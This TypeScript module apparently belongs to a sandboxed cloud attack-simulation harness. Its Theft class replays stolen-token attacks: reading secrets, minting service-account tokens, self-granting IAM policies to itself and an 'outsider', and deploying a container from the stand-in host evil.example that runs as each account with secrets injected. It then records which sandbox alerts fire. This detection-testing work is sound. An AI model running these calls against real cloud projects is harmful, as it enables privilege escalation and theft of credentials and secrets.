/** A thief with a token: every attack is made, each on a world that no other attack has changed. */
import http from "node:http";
import type { Attack, Inventory } from "./attacks";
import { type Bought, outsider } from "./method";
import { Copy, type World } from "./world";

export type Gain =
  | Bought
  | "runs code as accounts"
  | "reads values as accounts"
  | "gives itself values"
  | "lets outsiders read values"
  | "lets outsiders become accounts"
  | "lets outsiders read values as accounts";

export interface Got {
  readonly gain: Gain;
  readonly resource: string;
  /** Names of the alerts that were raised. */
  readonly alerts: readonly string[];
}

/** Who a token is. */
export interface Thief {
  readonly email: string;
  readonly token: string;
  readonly vercel: boolean;
}

interface Answer {
  readonly status: number;
  readonly text: string;
}

const agent = new http.Agent({ keepAlive: true });

export function send(
  { url }: { readonly url: string },
  token: string,
  { method, path, body }: { readonly method: string; readonly path: string; readonly body?: unknown },
): Promise<Answer> {
  const payload = body === undefined ? undefined : typeof body === "string" ? body : JSON.stringify(body);
  const headers = { authorization: `Bearer ${token}`, ...(payload && { "content-type": "application/json" }) };
  return new Promise((resolve, reject) => {
    const request = http.request(`${url}/${path}`, { method, headers, agent }, (response) => {
      const chunks: Buffer[] = [];
      response.on("data", (chunk: Buffer) => chunks.push(chunk));
      response.on("end", () => resolve({ status: response.statusCode ?? 0, text: Buffer.concat(chunks).toString() }));
    });
    request.on("error", reject);
    request.end(payload);
  });
}

/** Anything but a refusal counts: a request that was let through and then found wrong was let through. */
export const letThrough = ({ status }: Answer): boolean => status !== 401 && status !== 403;

export const access = (version: string) => ({ method: "GET", path: `v1/${version}:access` });
const scope = ["https://www.googleapis.com/auth/cloud-platform"];
export const tokenOf = (account: string) => ({
  method: "POST",
  path: `v1/${account}:generateAccessToken`,
  body: { scope },
});

/** Asked what it may do, the cloud has said: nothing of that. */
const isEmpty = ({ on }: Attack, { text }: Answer): boolean =>
  on.endsWith(":testIamPermissions") && !/permissions/.test(text);

/** One theft in one world. */
export class Theft {
  private copy: Copy | null = null;
  private seen = new Map<string, number>();
  readonly got: Got[] = [];

  constructor(
    private readonly world: World,
    private readonly inventory: Inventory,
    private readonly thief: Thief,
  ) {}

  async tryAll(attacks: readonly Attack[]): Promise<readonly Got[]> {
    try {
      // What reads leaves the world as it is, so it needs only one.
      for (const attack of [...attacks].sort((a, b) => Number(b.reads) - Number(a.reads))) await this.attempt(attack);
      await this.runAs();
      return this.got;
    } finally {
      await this.reset();
    }
  }

  private async attempt(attack: Attack): Promise<void> {
    const { token, vercel } = this.thief;
    if ((attack.api === "vercel") !== vercel) return;
    const grants = attack.buys.startsWith("sets policies");
    const made = grants ? this.selfish(attack) : attack;
    const untouched = this.copy === null;
    const answer = await this.call(token, made);
    if (!letThrough(answer) || isEmpty(attack, answer)) return;
    if (attack.buys === "reads metadata") return void this.gain(attack.buys, attack.resource, []);
    // Again, on a world that nothing else was tried on: what is raised now, this has raised.
    if (!untouched) {
      if (attack.reads) await this.alerts();
      else await this.reset();
      await this.call(token, made);
    }
    this.gain(attack.buys, attack.resource, await this.alerts());
    if (grants) await this.useGrants();
    if (!attack.reads) await this.reset();
  }

  private gain(gain: Gain, resource: string, alerts: readonly string[]): void {
    this.got.push({ gain, resource, alerts });
  }

  /** What one more call gets, and which alerts it raises. */
  private async watched(
    gain: Gain,
    resource: string,
    token: string,
    call: Parameters<Theft["call"]>[1],
  ): Promise<Answer> {
    await this.alerts();
    const answer = await this.call(token, call);
    if (letThrough(answer)) this.gain(gain, resource, await this.alerts());
    return answer;
  }

  /** Besides the outsider it grants itself the same, with what its own account may be given. */
  private selfish(attack: Attack): Attack {
    const both = [`user:${outsider}`, `serviceAccount:${this.thief.email}`];
    const body = JSON.stringify(attack.body).replaceAll(`["user:${outsider}"]`, JSON.stringify(both));
    return { ...attack, body: JSON.parse(body) };
  }

  /** What the outsider, and the thief, may do now. */
  private async useGrants(): Promise<void> {
    const { versions, accounts } = this.inventory;
    const eve = (await this.cloud()).tokenFor(outsider);
    const { token } = this.thief;
    for (const version of versions) {
      await this.watched("lets outsiders read values", version, eve, access(version));
      await this.watched("gives itself values", version, token, access(version));
    }
    for (const account of accounts) {
      await this.watched("becomes accounts", account, token, tokenOf(account));
      const answer = await this.watched("lets outsiders become accounts", account, eve, tokenOf(account));
      if (!letThrough(answer)) continue;
      const theirs = String(JSON.parse(answer.text).accessToken);
      for (const version of versions)
        await this.watched("lets outsiders read values as accounts", version, theirs, access(version));
    }
  }

  /** An image of the thief's, as each account, with each value in its environment: what it prints is theirs. */
  private async runAs(): Promise<void> {
    const { projects, accounts, versions } = this.inventory;
    if (this.thief.vercel) return;
    for (const project of projects) {
      for (const account of accounts) {
        const email = account.split("/")[3] ?? "";
        const image = { image: "evil.example/prints-its-environment" };
        if (!(await this.starts(project, email, image))) continue;
        await this.reset();
        await this.starts(project, email, image);
        this.gain("runs code as accounts", account, await this.alerts());
        for (const version of versions) {
          const [, home = "", , secret = "", , number = ""] = version.split("/");
          const reference = { secret: `projects/${home}/secrets/${secret}`, version: number };
          const env = [{ name: "TAKEN", valueSource: { secretKeyRef: reference } }];
          await this.reset();
          await this.starts(project, email, { ...image, env });
          if (await this.wasRead(version, email)) this.gain("reads values as accounts", version, await this.alerts());
        }
        await this.reset();
      }
    }
  }

  private async starts(project: string, serviceAccount: string, container: object): Promise<boolean> {
    const path = `v2/projects/${project}/locations/europe-west1/services?serviceId=thefts-own`;
    const template = { serviceAccount, containers: [container] };
    return letThrough(await this.call(this.thief.token, { method: "POST", path, body: { template } }));
  }

  private async wasRead(version: string, email: string): Promise<boolean> {
    const { adminToken } = await this.cloud();
    const { text } = await this.call(adminToken, { method: "GET", path: `_sandbox/accesses?since=${this.world.seq}` });
    const { accesses } = JSON.parse(text) as { accesses: Record<string, unknown>[] };
    return accesses.some(
      ({ caller, resource, granted, method }) =>
        caller === email && resource === version && granted === true && String(method).endsWith("AccessSecretVersion"),
    );
  }

  /** Those that were raised since the last time. */
  private async alerts(): Promise<readonly string[]> {
    const { adminToken } = await this.cloud();
    const { text } = await this.call(adminToken, { method: "GET", path: "_sandbox/incidents" });
    const { incidents } = JSON.parse(text) as { incidents: { policy: string }[] };
    const counts = new Map<string, number>();
    for (const { policy } of incidents) counts.set(policy, (counts.get(policy) ?? 0) + 1);
    const raised = [...counts]
      .filter(([policy, count]) => count > (this.seen.get(policy) ?? 0))
      .map(([policy]) => policy);
    this.seen = counts;
    return raised.sort();
  }

  private async call(
    token: string,
    call: Pick<Attack, "method" | "path"> & { readonly body?: unknown },
  ): Promise<Answer> {
    return send(await this.cloud(), token, call);
  }

  private async cloud(): Promise<Copy["cloud"]> {
    if (this.copy !== null) return this.copy.cloud;
    this.copy = await Copy.of(this.world);
    this.seen = new Map(this.world.incidents);
    return this.copy.cloud;
  }

  private async reset(): Promise<void> {
    await this.copy?.close();
    this.copy = null;
  }
}
